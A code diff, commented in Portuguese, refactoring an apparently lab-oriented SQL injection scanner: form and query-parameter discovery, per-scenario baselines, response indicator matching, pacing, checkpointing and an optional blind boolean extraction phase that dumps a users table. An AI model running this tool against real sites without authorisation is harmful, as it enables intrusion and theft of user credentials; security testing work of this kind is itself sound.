@@ -1,13 +1,19 @@
 import time
-import random
-import streamlit as st
-import re
-from urllib.parse import urljoin
-from config import log_result, get_log_filename
-from dataclasses import dataclass
+from urllib.parse import urljoin, urlsplit, urlunsplit, parse_qsl
+from config import get_log_filename, log_text, BR_TIMEZONE
+from events import EventLog
+from attacks.indicators import SQLI_INDICATORS
+from attacks.response_cache import VerdictCache, response_fingerprint
+from attacks.baseline import BaselineProfile, BASELINE_SAMPLES, BASELINE_VALUES
+from attacks.blind_extraction import BlindExtractor, BlindExtractionError
+from attacks.forms import extract_forms
+from attacks.crawler import SiteCatalogue
+from live_log import LiveLogSink
+from pacing import Pacer
+from dataclasses import dataclass, asdict
 from typing import List, Dict, Optional, Tuple, Any
 import logging
-from datetime import datetime, timezone, timedelta
+from datetime import datetime
 
 @dataclass
 class VulnerabilityResult:
@@ -33,6 +39,9 @@ class SQLInjectionAttack:
     Classe aprimorada para testes de SQL Injection com detecção automática
     de formulários e análise avançada de vulnerabilidades.
     """
+
+    # Delay do modo fixo quando nenhum Pacer é informado
+    DEFAULT_DELAY_RANGE = (1.5, 2.5)
     
     def __init__(self, session_manager):
         self.session_manager = session_manager
@@ -41,9 +50,13 @@ class SQLInjectionAttack:
         self.total_attempts = 0
         self.successful_attempts = 0
         self.failed_attempts = 0
-        self.baseline_response: Optional[Dict] = None
+        self.baseline_profiles: Dict[str, BaselineProfile] = {}
         self.logger = self._setup_logger()
-        self.utc_minus_3 = timezone(timedelta(hours=-3))
+        self.utc_minus_3 = BR_TIMEZONE
+        self.pacer = Pacer(mode="fixed", delay_range=self.DEFAULT_DELAY_RANGE)
+        self.events = EventLog()
+        self.verdict_cache = VerdictCache()
+        self.extracted_rows: List[Dict[str, str]] = []
         
     def _setup_logger(self) -> logging.Logger:
         """Configura logger interno para debug"""
@@ -110,47 +123,111 @@ class SQLInjectionAttack:
             all_payloads.extend(category_payloads)
         return all_payloads
 
-    def establish_baseline(self, target_url: str, add_log) -> Optional[Dict]:
+    def _paced_submit(self, scenario: TestScenario, data: Dict[str, str], add_log, sleep=time.sleep):
         """
-        Estabelece baseline com credenciais normais para comparação.
+        Envia os dados ao cenário (POST no corpo ou GET na query, conforme o
+        método) respeitando o ritmo de self.pacer e alimentando-o com o resultado.
         """
-        add_log("🧪 Estabelecendo baseline com credenciais normais...")
-        
+        sleep_time = self.pacer.next_delay()
+        if sleep_time > 0:
+            add_log(f"        ⏱️ Aguardando {sleep_time:.1f}s...")
+            sleep(sleep_time)
+
         try:
-            baseline_data = {
-                "Usuario": "Login",
-                "Login": "usuario_normal", 
-                "Senha": "senha_normal"
-            }
-            
-            response = self.session_manager.session.post(
-                target_url,
-                data=baseline_data,
-                allow_redirects=True,
-                timeout=15
-            )
-            
-            baseline_info = {
-                'status': response.status_code,
-                'url': str(response.url),
-                'size': len(response.text),
-                'redirects': len(response.history),
-                'text_preview': response.text[:500].lower(),
-                'headers': dict(response.headers)
-            }
-            
-            add_log(f"📊 BASELINE - Status: {baseline_info['status']}")
-            add_log(f"📊 BASELINE - URL: {baseline_info['url']}")
-            add_log(f"📊 BASELINE - Tamanho: {baseline_info['size']} chars")
-            add_log(f"📊 BASELINE - Redirecionamentos: {baseline_info['redirects']}")
-            
-            self.baseline_response = baseline_info
-            return baseline_info
-            
+            if scenario.method == "GET":
+                response = self.session_manager.session.get(
+                    scenario.action_url,
+                    params=data,
+                    allow_redirects=True,
+                    timeout=15
+                )
+            else:
+                response = self.session_manager.session.post(
+                    scenario.action_url,
+                    data=data,
+                    allow_redirects=True,
+                    timeout=15
+                )
         except Exception as e:
-            add_log(f"🔥 Erro no baseline: {str(e)}")
-            self.baseline_response = None
-            return None
+            self.pacer.record(error=e)
+            raise
+        self.pacer.record(response)
+        return response
+
+    def establish_baseline(self, scenarios: List[TestScenario], add_log,
+                           sleep=time.sleep) -> Dict[str, BaselineProfile]:
+        """
+        Estabelece um baseline por cenário com BASELINE_SAMPLES envios de
+        valores benignos (de tamanhos diferentes, alternando o campo variado).
+        """
+        add_log("🧪 Estabelecendo baseline com credenciais normais...")
+        self.baseline_profiles = {}
+
+        for scenario in scenarios:
+            candidate_fields = [f['name'] for f in scenario.fields if f.get('type') != 'hidden'] \
+                or [f['name'] for f in scenario.fields]
+            responses = []
+            for i in range(BASELINE_SAMPLES):
+                value = BASELINE_VALUES[i % len(BASELINE_VALUES)]
+                field_name = candidate_fields[i % len(candidate_fields)]
+                data = self.generate_test_data(scenario, value, field_name)
+                try:
+                    response = self._paced_submit(scenario, data, add_log, sleep)
+                    responses.append(response)
+                    self.events.emit("baseline", "sample", url=scenario.action_url, field=field_name,
+                                     payload=value, response=response, scenario=scenario.name)
+                except Exception as e:
+                    add_log(f"🔥 Erro no baseline de {scenario.name}: {str(e)}")
+                    self.events.emit("baseline", url=scenario.action_url, field=field_name,
+                                     payload=value, error=e, scenario=scenario.name)
+
+            if not responses:
+                add_log(f"⚠️ Sem baseline para {scenario.name}: comparação desativada neste cenário")
+                continue
+
+            profile = BaselineProfile(responses)
+            self.baseline_profiles[scenario.name] = profile
+            add_log(f"📊 BASELINE - {scenario.name}: {profile.describe()}")
+
+        return self.baseline_profiles
+
+    def scenarios_from_catalogue(self, catalogue: SiteCatalogue, add_log) -> List[TestScenario]:
+        """
+        Cenários a partir do catálogo do crawler: um por formulário distinto e
+        um por URL com parâmetros de query (injetados via GET).
+        """
+        add_log(f"🗺️ Usando catálogo do crawler: {catalogue.describe()}")
+        scenarios = []
+
+        for i, form in enumerate(catalogue.forms()):
+            scenarios.append(TestScenario(
+                name=f"Form {i+1} - {urlsplit(form.action_url).path}",
+                action_url=form.action_url,
+                method=form.method,
+                fields=form.fields
+            ))
+
+        for i, page in enumerate(catalogue.pages):
+            if not page.params:
+                continue
+            parts = urlsplit(page.url)
+            scenarios.append(TestScenario(
+                name=f"Query {i+1} - {parts.path}",
+                action_url=urlunsplit((parts.scheme, parts.netloc, parts.path, "", "")),
+                method="GET",
+                fields=[{'name': name, 'type': 'query', 'value': value}
+                        for name, value in parse_qsl(parts.query, keep_blank_values=True)]
+            ))
+
+        for scenario in scenarios:
+            add_log(f"  📝 {scenario.name}: {len(scenario.fields)} campos via {scenario.method}, Action: {scenario.action_url}")
+
+        if not scenarios:
+            add_log("⚠️ Catálogo sem formulários ou parâmetros, usando cenários padrão...")
+            scenarios = self._get_fallback_scenarios(catalogue.start_url)
+
+        self.detected_scenarios = scenarios
+        return scenarios
 
     def discover_form_scenarios(self, target_url: str, add_log) -> List[TestScenario]:
         """
@@ -159,12 +236,14 @@ class SQLInjectionAttack:
         add_log("🔍 Descobrindo formulários automaticamente...")
         
         try:
-            response = self.session_manager.session.get(target_url, timeout=10)
-            html_content = response.text
-            
-            add_log(f"🌐 Página carregada - Status: {response.status_code}")
+            response = self.session_manager.cached_get(target_url, timeout=10)
+            source = getattr(response, "from_cache", None)
+            add_log(f"🌐 Página carregada - Status: {response.status_code}"
+                    + (f" (cache: {source})" if source else ""))
             
-            scenarios = self._parse_forms_from_html(html_content, target_url, add_log)
+            forms, _ = self.session_manager.cached_parse(
+                "forms", response, lambda r: extract_forms(r.text, target_url))
+            scenarios = self._scenarios_from_forms(forms, add_log)
             
             if not scenarios:
                 add_log("⚠️ Nenhum formulário detectado, usando cenários padrão...")
@@ -179,72 +258,26 @@ class SQLInjectionAttack:
             self.detected_scenarios = scenarios
             return scenarios
 
-    def _parse_forms_from_html(self, html: str, base_url: str, add_log) -> List[TestScenario]:
-        """Parse HTML para extrair formulários"""
+    def _scenarios_from_forms(self, forms, add_log) -> List[TestScenario]:
+        """Converte os formulários da página (extraídos em uma passada) em cenários de teste"""
         scenarios = []
         
-        # Regex melhorado para formulários
-        form_pattern = r'<form[^>]*>(.*?)</form>'
-        forms = re.findall(form_pattern, html, re.DOTALL | re.IGNORECASE)
-        
-        for i, form_html in enumerate(forms):
-            # Extrair atributos do formulário
-            action = self._extract_form_attribute(html, 'action', i) or ""
-            method = self._extract_form_attribute(html, 'method', i) or "POST"
-            
-            # Construir URL completa
-            action_url = urljoin(base_url, action) if action else base_url
-            
-            # Extrair campos
-            fields = self._extract_form_fields(form_html)
-            
-            if fields:
+        for i, form in enumerate(forms):
+            if form.fields:
                 scenario = TestScenario(
                     name=f"Form {i+1} - Auto Detected",
-                    action_url=action_url,
-                    method=method.upper(),
-                    fields=fields
+                    action_url=form.action_url,
+                    method=form.method,
+                    fields=form.fields
                 )
                 scenarios.append(scenario)
                 
-                add_log(f"  📝 Formulário {i+1}: {len(fields)} campos, Action: {action_url}")
-                for field in fields:
+                add_log(f"  📝 Formulário {i+1}: {len(form.fields)} campos, Action: {form.action_url}")
+                for field in form.fields:
                     add_log(f"    • {field['name']} ({field['type']})")
         
         return scenarios
 
-    def _extract_form_attribute(self, html: str, attr: str, form_index: int) -> Optional[str]:
-        """Extrai atributo específico de um formulário"""
-        pattern = rf'<form[^>]*{attr}=["\']([^"\']*)["\']'
-        matches = re.findall(pattern, html, re.IGNORECASE)
-        return matches[form_index] if form_index < len(matches) else None
-
-    def _extract_form_fields(self, form_html: str) -> List[Dict[str, str]]:
-        """Extrai campos de um formulário"""
-        fields = []
-        
-        # Inputs
-        input_pattern = r'<input[^>]*name=["\']([^"\']+)["\'][^>]*(?:type=["\']([^"\']*)["\'])?[^>]*>'
-        input_matches = re.findall(input_pattern, form_html, re.IGNORECASE)
-        
-        for name, field_type in input_matches:
-            fields.append({
-                'name': name,
-                'type': field_type or 'text'
-            })
-        
-        # Textareas
-        textarea_pattern = r'<textarea[^>]*name=["\']([^"\']+)["\'][^>]*>'
-        textarea_matches = re.findall(textarea_pattern, form_html, re.IGNORECASE)
-        
-        for name in textarea_matches:
-            fields.append({
-                'name': name,
-                'type': 'textarea'
-            })
-        
-        return fields
-
     def _get_fallback_scenarios(self, target_url: str) -> List[TestScenario]:
         """Cenários padrão quando detecção automática falha"""
         common_endpoints = [
@@ -289,7 +322,11 @@ class SQLInjectionAttack:
                                                for keyword in ['senha', 'pass', 'pwd']):
                 data[field_name] = "password123"
             elif field_type == 'hidden':
-                data[field_name] = "Login" if 'usuario' in field_name.lower() else ""
+                # Campos ocultos mantêm o valor da página (ex.: Usuario=Login / Cadastrar)
+                data[field_name] = field.get('value') or ("Login" if 'usuario' in field_name.lower() else "")
+            elif field_type == 'query':
+                # Demais parâmetros da URL mantêm o valor original
+                data[field_name] = field.get('value', '')
             elif field_type in ['email', 'mail']:
                 data[field_name] = "admin@test.com"
             else:
@@ -297,58 +334,63 @@ class SQLInjectionAttack:
         
         return data
 
-    def analyze_vulnerability_indicators(self, response, payload: str, add_log) -> Tuple[bool, List[str]]:
+    def analyze_vulnerability_indicators(self, response, payload: str, add_log,
+                                         scenario: Optional[TestScenario] = None) -> Tuple[bool, List[str]]:
         """
         Análise avançada de indicadores de vulnerabilidade.
+
+        O veredicto não depende do payload, só da resposta e do baseline do
+        cenário: respostas idênticas a uma já analisada no mesmo cenário
+        reaproveitam o resultado do verdict_cache. A latência fica fora do
+        cache e é comparada com o baseline em toda resposta.
         """
+        profile = self.baseline_profiles.get(scenario.name) if scenario else None
+        cache_key = (scenario.name if scenario else None, response_fingerprint(response))
+        cached = self.verdict_cache.get(cache_key)
+        if cached is not None:
+            add_log(f"        ♻️ Resposta idêntica a uma já analisada (Status: {response.status_code}, {len(response.content)} bytes)")
+            indicators_found = list(cached)
+        else:
+            indicators_found = self._analyze_indicators(response, add_log, profile)
+            self.verdict_cache.put(cache_key, tuple(indicators_found))
+
+        if profile is not None:
+            indicators_found.extend(profile.latency_indicators(response))
+        vulnerability_detected = len(indicators_found) > 0
+
+        if vulnerability_detected:
+            add_log(f"        ✅ Indicadores encontrados: {indicators_found}")
+        else:
+            add_log(f"        ❌ Nenhum indicador de vulnerabilidade")
+        
+        return vulnerability_detected, indicators_found
+
+    def _analyze_indicators(self, response, add_log, profile: Optional[BaselineProfile] = None) -> List[str]:
+        """Análise completa de uma resposta ainda não vista."""
         response_text = response.text.lower()
         indicators_found = []
         
         # Log de debug detalhado
         self._log_response_debug(response, add_log)
         
-        # 1. Indicadores de bypass de autenticação
-        auth_bypass_indicators = [
-            "bem-vindo", "welcome", "dashboard", "home", "admin panel",
-            "user profile", "logged in", "login successful", "sucesso",
-            "painel", "perfil", "logado", "autenticado", "menu principal",
-            "logout", "sair", "painel de controle", "bem vindo"
-        ]
+        # Uma única passada sobre o corpo encontra todos os indicadores de todas as categorias
+        hits = SQLI_INDICATORS.scan(response_text)
         
-        for indicator in auth_bypass_indicators:
-            if indicator in response_text:
-                indicators_found.append(f"auth_bypass:{indicator}")
+        # 1. Indicadores de bypass de autenticação
+        indicators_found.extend(f"auth_bypass:{indicator}" for indicator in hits["auth_bypass"])
         
         # 2. Erros SQL explícitos
-        sql_error_patterns = [
-            "mysql_fetch_array", "you have an error in your sql syntax",
-            "warning: mysql_", "mysqlsyntaxerrorexception", "ora-00933",
-            "postgresql query failed", "sqlite3.operationalerror",
-            "syntax error", "unclosed quotation mark", "mysql_num_rows",
-            "mysql error", "sql syntax", "database error"
-        ]
-        
-        for error in sql_error_patterns:
-            if error in response_text:
-                indicators_found.append(f"sql_error:{error}")
+        indicators_found.extend(f"sql_error:{error}" for error in hits["sql_error"])
         
         # 3. Análise de comportamento da resposta
-        behavior_indicators = self._analyze_response_behavior(response, add_log)
+        behavior_indicators = self._analyze_response_behavior(response, add_log, hits)
         indicators_found.extend(behavior_indicators)
         
-        # 4. Comparação com baseline
-        if self.baseline_response:
-            baseline_indicators = self._compare_with_baseline(response, add_log)
-            indicators_found.extend(baseline_indicators)
-        
-        vulnerability_detected = len(indicators_found) > 0
-        
-        if vulnerability_detected:
-            add_log(f"        ✅ Indicadores encontrados: {indicators_found}")
-        else:
-            add_log(f"        ❌ Nenhum indicador de vulnerabilidade")
+        # 4. Comparação com o baseline do cenário
+        if profile is not None:
+            indicators_found.extend(profile.compare(response))
         
-        return vulnerability_detected, indicators_found
+        return indicators_found
 
     def _log_response_debug(self, response, add_log):
         """Log detalhado da resposta para debug"""
@@ -360,19 +402,18 @@ class SQLInjectionAttack:
         add_log(f"        🔍 Redirecionamentos: {len(response.history)}")
         add_log(f"        🔍 Preview: {preview}...")
 
-    def _analyze_response_behavior(self, response, add_log) -> List[str]:
+    def _analyze_response_behavior(self, response, add_log, hits: Optional[Dict[str, List[str]]] = None) -> List[str]:
         """Analisa comportamento da resposta"""
         indicators = []
-        response_text = response.text.lower()
+        if hits is None:
+            hits = SQLI_INDICATORS.scan(response.text.lower())
         
         # Verificar ausência de campos de login
-        login_fields = ["password", "senha", "login", "type='password'"]
-        login_found = any(field in response_text for field in login_fields)
+        login_found = bool(hits["login_field"])
         
         if response.status_code == 200 and not login_found:
             # Verificar conteúdo de usuário logado
-            logged_content = ["logout", "sair", "perfil", "dashboard", "bem-vindo"]
-            logged_found = [content for content in logged_content if content in response_text]
+            logged_found = hits["logged_in"]
             
             if logged_found:
                 indicators.append(f"behavior:no_login_fields_with_user_content")
@@ -386,53 +427,11 @@ class SQLInjectionAttack:
         
         return indicators
 
-    def _compare_with_baseline(self, response, add_log) -> List[str]:
-        """Compara resposta com baseline estabelecido"""
-        indicators = []
-        
-        if not self.baseline_response:
-            return indicators
-        
-        baseline = self.baseline_response
-        
-        # Diferença significativa no tamanho
-        size_diff = abs(len(response.text) - baseline['size'])
-        if size_diff > 1000:
-            indicators.append(f"baseline:size_difference:{size_diff}")
-        
-        # URL diferente
-        if str(response.url) != baseline['url']:
-            indicators.append(f"baseline:url_change")
-        
-        # Status diferente
-        if response.status_code != baseline['status']:
-            indicators.append(f"baseline:status_change")
-        
-        # Análise de similaridade de conteúdo
-        current_preview = response.text[:500].lower()
-        baseline_preview = baseline['text_preview']
-        
-        similarity = self._calculate_text_similarity(current_preview, baseline_preview)
-        
-        if similarity < 0.3:
-            indicators.append(f"baseline:low_similarity:{similarity:.2f}")
-        
-        return indicators
-
-    def _calculate_text_similarity(self, text1: str, text2: str) -> float:
-        """Calcula similaridade básica entre dois textos"""
-        words1 = set(text1.split())
-        words2 = set(text2.split())
-        
-        if not words1:
-            return 0.0
-        
-        common_words = words1 & words2
-        return len(common_words) / len(words1)
-
-    def test_payload_on_scenario(self, scenario: TestScenario, payload: str, add_log) -> Tuple[bool, List[str]]:
+    def test_payload_on_scenario(self, scenario: TestScenario, payload: str, add_log,
+                                 sleep=time.sleep) -> Tuple[bool, List[str]]:
         """
-        Testa um payload em todos os campos de um cenário.
+        Testa um payload em todos os campos de um cenário, respeitando o
+        ritmo de self.pacer antes de cada requisição.
         """
         add_log(f"    🔍 Testando: {scenario.name}")
         add_log(f"      🎯 URL: {scenario.action_url}")
@@ -440,6 +439,8 @@ class SQLInjectionAttack:
         vulnerable_fields = []
         
         for field in scenario.fields:
+            if self.pacer.cancelled:
+                break
             field_name = field['name']
             
             try:
@@ -447,19 +448,14 @@ class SQLInjectionAttack:
                 
                 add_log(f"      💉 Campo: {field_name}")
                 add_log(f"        📤 Dados: {test_data}")
-                
-                response = self.session_manager.session.post(
-                    scenario.action_url,
-                    data=test_data,
-                    allow_redirects=True,
-                    timeout=15
-                )
+
+                response = self._paced_submit(scenario, test_data, add_log, sleep)
                 
                 self.total_attempts += 1
                 
                 # Analisar vulnerabilidade
                 is_vulnerable, indicators = self.analyze_vulnerability_indicators(
-                    response, payload, add_log
+                    response, payload, add_log, scenario
                 )
                 
                 if is_vulnerable:
@@ -482,15 +478,64 @@ class SQLInjectionAttack:
                 else:
                     self.failed_attempts += 1
                     add_log(f"      ❌ Seguro: {field_name}")
+                self.events.emit("injection", "vulnerable" if is_vulnerable else "safe",
+                                 url=scenario.action_url, field=field_name, payload=payload,
+                                 response=response, scenario=scenario.name, indicators=indicators)
                     
             except Exception as e:
                 add_log(f"      🔥 Erro em {field_name}: {str(e)}")
+                self.events.emit("injection", url=scenario.action_url, field=field_name,
+                                 payload=payload, error=e, scenario=scenario.name)
                 self.total_attempts += 1
                 self.failed_attempts += 1
                 continue
         
         return len(vulnerable_fields) > 0, vulnerable_fields
 
+    def run_blind_extraction(self, scenarios: List[TestScenario], add_log, workers: int = 4,
+                             max_rows: int = 10) -> List[Dict[str, str]]:
+        """
+        Usa o primeiro par cenário/campo vulnerável que sirva de oráculo
+        booleano para extrair a tabela de usuários do laboratório.
+        """
+        scenarios_by_name = {s.name: s for s in scenarios}
+        candidates = []
+        for vuln in self.vulnerabilities:
+            key = (vuln.scenario_name, vuln.field)
+            if key not in candidates and vuln.scenario_name in scenarios_by_name:
+                candidates.append(key)
+
+        if not candidates:
+            add_log("ℹ️ Nenhum campo vulnerável para extração blind.")
+            return []
+
+        for scenario_name, field_name in candidates:
+            if self.pacer.cancelled:
+                break
+            scenario = scenarios_by_name[scenario_name]
+            add_log(f"🕳️ Tentando extração blind via {field_name} em {scenario.action_url}")
+            extractor = BlindExtractor(
+                self.session_manager, scenario.action_url, field_name,
+                self.generate_test_data(scenario, "", field_name),
+                pacer=self.pacer, workers=workers, add_log=add_log, method=scenario.method,
+                events=self.events
+            )
+            try:
+                rows = extractor.dump_table(max_rows=max_rows)
+            except BlindExtractionError as e:
+                add_log(f"⚠️ {e}")
+                continue
+            except Exception as e:
+                add_log(f"🔥 Erro na extração blind: {str(e)}")
+                continue
+            finally:
+                self.total_attempts += extractor.requests
+            add_log(f"🔓 Extração concluída: {len(rows)} linhas em {extractor.requests} requisições "
+                    f"({extractor.ambiguous} respostas ambíguas)")
+            return rows
+
+        return []
+
     def generate_final_report(self) -> str:
         """
         Gera relatório final detalhado das vulnerabilidades encontradas.
@@ -523,6 +568,12 @@ class SQLInjectionAttack:
                 report += "   " + "-" * 50 + "\n"
             
             report += "\n"
+
+        if self.extracted_rows:
+            report += f"🔓 DADOS EXTRAÍDOS (blind booleana):\n"
+            for row in self.extracted_rows:
+                report += "   • " + " | ".join(f"{k}: {v}" for k, v in row.items()) + "\n"
+            report += "\n"
         
         report += f"📊 ESTATÍSTICAS:\n"
         report += f"   • Total de tentativas: {self.total_attempts}\n"
@@ -545,6 +596,7 @@ class SQLInjectionAttack:
         summary += f"❌ Tentativas falharam (seguras): {self.failed_attempts}\n"
         summary += f"🚨 Total de vulnerabilidades encontradas: {len(self.vulnerabilities)}\n"
         summary += f"📋 Cenários testados: {len(self.detected_scenarios)}\n"
+        summary += f"♻️ Cache de respostas: {self.verdict_cache.describe()}\n"
         
         if self.vulnerabilities:
             summary += f"\n🔍 DETALHES DAS VULNERABILIDADES:\n"
@@ -558,16 +610,25 @@ class SQLInjectionAttack:
         
         summary += "=" * 80 + "\n"
         
-        # Escrever no arquivo
-        try:
-            with open(log_file, 'a', encoding='utf-8') as f:
-                f.write(summary)
-        except Exception as e:
-            print(f"Erro ao escrever resumo final: {e}")
+        # Escrever no arquivo (pela mesma fila do log_result, preservando a ordem)
+        log_text(summary, log_file)
+
+    def _get_counters(self) -> Dict[str, int]:
+        """Contadores da execução (usados no checkpoint)"""
+        return {
+            "total_attempts": self.total_attempts,
+            "successful_attempts": self.successful_attempts,
+            "failed_attempts": self.failed_attempts,
+        }
 
     def run(self, target_url: str, payloads: Optional[List[str]] = None, 
             log_file: Optional[str] = None, live_log_container=None, 
-            progress_container=None) -> str:
+            progress_container=None, checkpoint=None,
+            pacer: Optional[Pacer] = None, blind_extraction: bool = False,
+            blind_workers: int = 4, blind_max_rows: int = 10,
+            catalogue: Optional[SiteCatalogue] = None, events: Optional[EventLog] = None,
+            scenarios: Optional[List[TestScenario]] = None,
+            baselines: Optional[Dict[str, BaselineProfile]] = None) -> str:
         """
         Executa o teste completo de SQL Injection.
         
@@ -577,6 +638,15 @@ class SQLInjectionAttack:
             log_file: Arquivo de log (usa padrão se None)
             live_log_container: Container Streamlit para logs em tempo real
             progress_container: Container Streamlit para barra de progresso
+            checkpoint: Checkpoint para salvar/retomar a posição na matriz payload × cenário
+            pacer: Controle de ritmo das requisições (delay fixo DEFAULT_DELAY_RANGE se None)
+            blind_extraction: Após a detecção, extrai Forum.Usuario por injeção blind booleana
+            blind_workers: Posições de caracteres extraídas em paralelo
+            blind_max_rows: Máximo de linhas extraídas
+            catalogue: Catálogo do crawler; se informado, substitui a descoberta na target_url
+            events: Registro estruturado (JSONL) de cada requisição do teste
+            scenarios: Cenários já descobertos (ex.: pelo coordenador distribuído); pulam a Fase 1
+            baselines: Perfis de baseline já medidos, por nome de cenário; pulam a Fase 2
             
         Returns:
             Relatório final das vulnerabilidades encontradas
@@ -593,91 +663,114 @@ class SQLInjectionAttack:
         self.total_attempts = 0
         self.successful_attempts = 0
         self.failed_attempts = 0
-        live_logs = []
+        self.verdict_cache.clear()
+        self.extracted_rows = []
         
         # Marcar horário de início
         start_time = self._get_br_timestamp()
         
-        # Configurar componentes de progresso
-        progress_bar = None
-        status_text = None
-        if progress_container:
-            progress_bar, status_text = progress_container
-
-        def add_log(message: str, update_progress: Optional[int] = None):
-            """Função para logging com interface em tempo real"""
-            timestamp = datetime.now(self.utc_minus_3).strftime("%H:%M:%S")
-            formatted_log = f"[{timestamp}] {message}"
-            live_logs.append(formatted_log)
-            
-            # Salvar em arquivo
-            log_result(message, log_file)
-            
-            # Atualizar interface
-            if live_log_container:
-                display_logs = live_logs[-15:] if len(live_logs) > 15 else live_logs
-                live_log_container.text_area(
-                    f"�� Logs em Tempo Real ({len(live_logs)} total):", 
-                    value="\n".join(display_logs),
-                    height=300,
-                    key=f"live_logs_{len(live_logs)}"
-                )
-            
-            if progress_bar and update_progress is not None:
-                progress_bar.progress(update_progress)
-            
-            if status_text:
-                status_text.text(f"🔄 {message}")
+        # Sink compartilhado para logs em tempo real
+        sink = LiveLogSink(log_file, live_log_container, progress_container, key_prefix="live_logs")
+        add_log = sink.add_log
 
         # Início do teste
         add_log("💉 Iniciando teste avançado de SQL Injection...", 0)
         add_log(f"🎯 URL alvo: {target_url}")
         add_log(f"⏰ Horário de início: {start_time}")
+        if pacer is not None:
+            self.pacer = pacer
+        self.events = (events or EventLog()).for_module("sql_injection")
+        add_log(f"🚦 Ritmo: {self.pacer.describe()}")
+        
+        # Fase 1: Descobrir formulários
+        if scenarios is not None:
+            add_log(f"🔍 Fase 1: {len(scenarios)} cenários recebidos (descoberta já feita)", 10)
+            self.detected_scenarios = scenarios
+        elif catalogue is not None:
+            add_log("🔍 Fase 1: Descobrindo formulários...", 10)
+            scenarios = self.scenarios_from_catalogue(catalogue, add_log)
+        else:
+            add_log("🔍 Fase 1: Descobrindo formulários...", 10)
+            scenarios = self.discover_form_scenarios(target_url, add_log)
         
-        # Fase 1: Estabelecer baseline
-        add_log("📊 Fase 1: Estabelecendo baseline...", 10)
-        self.establish_baseline(target_url, add_log)
-        
-        # Fase 2: Descobrir formulários
-        add_log("🔍 Fase 2: Descobrindo formulários...", 20)
-        scenarios = self.discover_form_scenarios(target_url, add_log)
+        # Fase 2: Baseline por cenário (várias amostras benignas)
+        if baselines is not None:
+            add_log(f"📊 Fase 2: {len(baselines)} baselines recebidos (já medidos)", 20)
+            self.baseline_profiles = dict(baselines)
+        else:
+            add_log("📊 Fase 2: Estabelecendo baseline...", 20)
+            self.establish_baseline(scenarios, add_log, sleep=sink.sleep)
         
         # Calcular estimativas
         total_fields = sum(len(s.fields) for s in scenarios)
         estimated_attempts = len(payloads) * total_fields
         add_log(f"📊 Estimativa: {len(payloads)} payloads × {total_fields} campos = {estimated_attempts} tentativas")
         
+        # Retomada: a posição é o índice na matriz payload × cenário
+        total_tests = len(payloads) * len(scenarios)
+        start_position = 0
+        if checkpoint is not None and checkpoint.position:
+            start_position = checkpoint.position
+            self.vulnerabilities = [VulnerabilityResult(**v) for v in checkpoint.findings]
+            self.total_attempts = checkpoint.counters.get("total_attempts", 0)
+            self.successful_attempts = checkpoint.counters.get("successful_attempts", 0)
+            self.failed_attempts = checkpoint.counters.get("failed_attempts", 0)
+            add_log(f"♻️ Retomando execução a partir do teste {start_position + 1}/{total_tests} "
+                    f"(payload {start_position // max(1, len(scenarios)) + 1}/{len(payloads)})")
+        # Estado após o último cenário concluído: é o que vai para o checkpoint no cancelamento
+        completed = (start_position, [asdict(v) for v in self.vulnerabilities], self._get_counters())
+        
         # Fase 3: Executar testes
         add_log("💉 Fase 3: Executando testes de injeção...", 30)
         
         for i, payload in enumerate(payloads):
+            if start_position and (i + 1) * len(scenarios) <= start_position:
+                continue
             progress_percent = 30 + int((i / len(payloads)) * 60)
             
             add_log(f"💉 Payload {i+1}/{len(payloads)}: {payload}", progress_percent)
             
             payload_successful = False
             
-            for scenario in scenarios:
+            for j, scenario in enumerate(scenarios):
+                position = i * len(scenarios) + j
+                if position < start_position:
+                    continue
+                if self.pacer.cancelled:
+                    break
                 vulnerability_found, vulnerable_fields = self.test_payload_on_scenario(
-                    scenario, payload, add_log
+                    scenario, payload, add_log, sleep=sink.sleep
                 )
+                if self.pacer.cancelled:
+                    # Cenário interrompido: fica fora do checkpoint e é refeito na retomada
+                    break
                 
                 if vulnerability_found:
                     payload_successful = True
                     add_log(f"    🚨 Campos vulneráveis: {', '.join(vulnerable_fields)}")
+
+                completed = (position + 1, [asdict(v) for v in self.vulnerabilities], self._get_counters())
+                if checkpoint is not None:
+                    checkpoint.update(completed[0], findings=completed[1], counters=completed[2],
+                                      total=total_tests)
             
+            if self.pacer.cancelled:
+                add_log("⛔ Cancelamento solicitado: encerrando com resultados parciais.")
+                if checkpoint is not None:
+                    checkpoint.update(completed[0], findings=completed[1], counters=completed[2],
+                                      total=total_tests, force=True)
+                break
+
             if payload_successful:
                 add_log(f"✅ Payload efetivo: {payload}")
             else:
                 add_log(f"❌ Payload seguro: {payload}")
 
-            # Delay inteligente
-            sleep_time = random.uniform(1.5, 2.5)
-            add_log(f"⏱️ Aguardando {sleep_time:.1f}s...")
-            
-            # Sleep responsivo
-            for step in range(10):
-                time.sleep(sleep_time / 10)
+        # Fase 3b: Extração blind (opcional)
+        if blind_extraction and not self.pacer.cancelled:
+            add_log("🕳️ Fase 3b: Extração blind booleana...", 92)
+            self.extracted_rows = self.run_blind_extraction(scenarios, add_log, workers=blind_workers,
+                                                            max_rows=blind_max_rows)
 
         # Fase 4: Gerar relatório
         add_log("📋 Fase 4: Gerando relatório final...", 95)
@@ -699,10 +792,16 @@ class SQLInjectionAttack:
         if self.total_attempts > 0:
             success_rate = (self.successful_attempts / self.total_attempts) * 100
             add_log(f"   📈 Taxa de sucesso: {success_rate:.2f}%")
+        add_log(f"   ♻️ Cache de respostas: {self.verdict_cache.describe()}")
+        add_log(f"   🚦 Ritmo final: {self.pacer.describe()}")
         
         final_report = self.generate_final_report()
         
         add_log("🏁 Teste de SQL Injection finalizado!", 100)
-        time.sleep(1)
+        sink.flush()
+        if checkpoint is not None and not self.pacer.cancelled:
+            checkpoint.complete()
+        if live_log_container:
+            time.sleep(1)
         
         return final_report
\ No newline at end of file